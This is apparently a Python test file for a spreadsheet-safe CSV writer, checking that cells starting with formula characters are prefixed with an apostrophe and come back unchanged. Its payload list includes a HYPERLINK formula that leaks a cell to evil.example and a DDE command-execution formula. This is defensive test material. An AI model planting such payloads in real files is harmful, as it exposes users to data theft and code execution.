"""CSV for spreadsheets: no text of the source's is a formula, and each comes back as it was."""

import csv
import io
from decimal import Decimal

import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as texts

from miyabi_dw.common.spreadsheet import FORMULA, csv_text, write_rows

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")', "@SUM(1+1)", "+1", "-2+3", "\t=1+1", "\r=1", " =1", "＝1", "'=1", "''",
    "\n@x", "=cmd|' /C calc'!A0",
]  # fmt: skip


def read_back(written: str, column: str = "title") -> list[str]:
    """As the documentation says it is done."""
    rows = csv.DictReader(io.StringIO(written, newline=""))
    return [row[column].removeprefix("'") for row in rows]


@pytest.mark.parametrize("title", EVIL)
def test_c6_a_title_is_no_formula_and_comes_back(title: str) -> None:
    written = csv_text(pandas.DataFrame({"title": [title], "n": [1]}))
    (row,) = csv.DictReader(io.StringIO(written, newline=""))
    assert row["title"][0] == "'"
    assert read_back(written) == [title]


@pytest.mark.parametrize("title", EVIL)
def test_c6_rows_without_a_table_are_written_alike(title: str) -> None:
    rows = [{"title": title, "n": Decimal("-1.5"), "none": None}, {"title": "plain", "n": -2, "none": None}]
    file = io.StringIO(newline="")
    write_rows(file, rows)
    assert file.getvalue().splitlines()[-1] == "plain,-2,"
    assert read_back(file.getvalue()) == read_back(csv_text(pandas.DataFrame(rows))) == [title, "plain"]
    assert file.getvalue().split(",-1.5")[0].removeprefix("title,n,none\r\n").lstrip('"').startswith("'")


@given(texts.text(texts.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_c6_any_text_comes_back(title: str) -> None:
    written = csv_text(pandas.DataFrame({"title": [title], "n": [-1]}))
    assert read_back(written) == [title]
    assert not title.startswith(FORMULA) or "'" in written


def test_c6_numbers_stay_numbers_and_names_of_columns_are_texts_too() -> None:
    table = pandas.DataFrame({"=cost": [Decimal("-1.50"), None], "n": [-3, 4], "x": [-0.5, float("nan")]})
    assert csv_text(table) == "'=cost,n,x\r\n-1.50,-3,-0.5\r\n,4,\r\n"
    ids = pandas.DataFrame(
        {"id": pandas.Series([2**60 + 1, None], dtype=object), "m": pandas.array([2**60 + 1, None], "Int64")}
    )
    assert csv_text(ids) == f"id,m\r\n{2**60 + 1},{2**60 + 1}\r\n,\r\n"
